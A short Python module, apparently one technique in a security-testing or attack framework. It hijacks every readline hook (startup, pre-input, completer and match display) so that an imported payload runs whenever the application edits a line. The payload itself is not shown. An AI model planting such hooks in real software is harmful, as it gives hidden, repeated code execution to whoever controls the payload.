"""Functions as all hooks of the application's line editing."""
CATEGORY = "borrowed"
REACH = "write"
NEEDS = ("readline",)

from . import payload


def act(*arguments):
    payload.act()


def attack(readline):
    readline.set_startup_hook(act)
    readline.set_pre_input_hook(act)
    readline.set_completer(act)
    readline.set_completion_display_matches_hook(act)
